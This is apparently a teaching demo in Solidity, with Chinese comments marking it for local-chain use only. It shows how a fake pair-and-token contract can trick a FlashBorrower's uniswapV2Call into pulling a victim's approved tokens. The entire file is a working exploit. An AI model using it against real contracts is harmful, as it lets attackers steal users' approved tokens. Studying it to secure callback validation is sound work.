// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {FlashBorrower} from "../flash-swaps/FlashBorrower.sol";

/// 攻击演示，只在本地链使用：同时假扮交易对与代币，让目标合约把用户授权给它的代币付过来。
contract FakePairDemo {
    // #region attack
    function attack(FlashBorrower target, address victim, address stolen, uint256 value) external {
        FlashBorrower.Loan memory loan = FlashBorrower.Loan({
            token: address(this), // “借出”的代币也是假的
            other: stolen,
            amount: 1,
            repayOther: true,
            maxCost: type(uint256).max,
            payer: victim
        });
        _inventReserves(address(this) < stolen, value);
        // 第一个参数冒充目标合约自己：它只是一个参数，不是证据。
        target.uniswapV2Call(address(target), 0, 0, abi.encode(loan));
    }
    // #endregion attack

    uint112 private _reserve0;
    uint112 private _reserve1;

    /// 编造储备量，使目标合约算出的应付数量恰好是 value。
    function _inventReserves(bool fakeIsToken0, uint256 value) private {
        uint112 reserveIn = uint112((value - 1) * 997);
        uint112 reserveOut = 1001;
        (_reserve0, _reserve1) = fakeIsToken0 ? (reserveOut, reserveIn) : (reserveIn, reserveOut);
    }

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (_reserve0, _reserve1, 0);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }
}
